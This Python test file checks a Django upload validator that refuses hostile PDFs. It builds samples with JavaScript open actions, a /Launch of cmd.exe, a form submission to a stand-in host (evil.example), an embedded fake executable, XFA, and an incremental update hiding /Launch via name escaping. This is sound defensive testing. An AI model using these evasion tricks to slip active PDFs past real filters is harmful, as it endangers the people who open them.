"""Hostile PDFs, built here with pikepdf: actions in object streams, in incremental updates, encrypted files."""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from amtsplatz.infra.uploads import clean_upload


def _pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **save: Any) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    if change is not None:
        change(pdf)
    buffer = io.BytesIO()
    # Compressed object streams: no action name appears in the file's raw bytes.
    options: dict[str, Any] = {"object_stream_mode": pikepdf.ObjectStreamMode.generate, "compress_streams": True}
    pdf.save(buffer, **{**options, **save})
    return buffer.getvalue()


def _action(kind: str, **fields: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name(kind), **fields))

    return change


def _page_aa(pdf: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pdf.make_indirect(script))


def _names_javascript(pdf: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), pdf.make_indirect(script)]))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pdf.make_indirect(tree))


def _embedded_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", mime_type="application/x-msdownload")


def _xfa(pdf: pikepdf.Pdf) -> None:
    form = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=form)


def _refusal(content: bytes) -> ValidationError:
    upload = SimpleUploadedFile("antrag.pdf", content, content_type="application/pdf")
    with pytest.raises(ValidationError) as refused:
        clean_upload(upload, accept=["application/pdf"], max_size_mb=5)
    return refused.value


HOSTILE = {
    "javascript-open-action": _pdf(_action("/JavaScript", JS=pikepdf.String("app.alert(1)"))),
    "launch-open-action": _pdf(_action("/Launch", F=pikepdf.String("cmd.exe"))),
    "submit-form": _pdf(_action("/SubmitForm", F=pikepdf.String("https://evil.example/"))),
    "page-additional-action": _pdf(_page_aa),
    "names-javascript": _pdf(_names_javascript),
    "embedded-file": _pdf(_embedded_file),
    "xfa-form": _pdf(_xfa),
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE.keys())
def test_active_content_in_object_streams_is_refused(content: bytes) -> None:
    assert b"/JavaScript" not in content and b"/Launch" not in content  # invisible to a byte search
    refusal = _refusal(content)
    assert refusal.code == "active_pdf" and "antrag.pdf" in refusal.messages[0]


def test_an_action_added_by_an_incremental_update_is_refused() -> None:
    original = _pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    # What a PDF editor appends when it saves incrementally: a new object, the catalog again, a new xref.
    script = b"9 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n".replace(b"/Launch", b"/L#61unch")
    with pikepdf.open(io.BytesIO(original)) as pdf:
        root = pdf.Root.objgen[0]
    catalog = f"{root} 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>\nendobj\n".encode()
    start = len(original)
    body = script + catalog
    xref = (
        f"xref\n{root} 1\n{start + len(script):010d} 00000 n \n9 1\n{start:010d} 00000 n \n"
        f"trailer\n<< /Size 10 /Root {root} 0 R /Prev {original.rsplit(b'startxref', 1)[1].split()[0].decode()} >>\n"
        f"startxref\n{start + len(body)}\n%%EOF\n"
    ).encode()
    updated = original + body + xref
    with pikepdf.open(io.BytesIO(updated)) as pdf:
        assert str(pdf.Root.OpenAction.S) == "/Launch"  # a reader sees the newest revision
    assert _refusal(updated).code == "active_pdf"


def test_encrypted_pdfs_are_refused_with_or_without_a_user_password() -> None:
    for password in ("", "geheim"):
        encrypted = _pdf(encryption=pikepdf.Encryption(owner="besitzer", user=password, R=6))
        with translation.override("en"):
            refusal = _refusal(encrypted)
        assert refusal.code == "encrypted_pdf" and "without protection" in refusal.messages[0]


def test_a_plain_pdf_and_a_jump_to_the_first_page_are_accepted() -> None:
    def jump(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])

    for content in (_pdf(), _pdf(jump), _pdf(_action("/GoTo", D=pikepdf.Array([0, pikepdf.Name.Fit])))):
        upload = SimpleUploadedFile("antrag.pdf", content, content_type="application/pdf")
        assert clean_upload(upload, accept=["application/pdf"], max_size_mb=5).content == content


def test_a_pdf_no_parser_can_read_is_refused() -> None:
    assert _refusal(b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n").code == "broken_pdf"
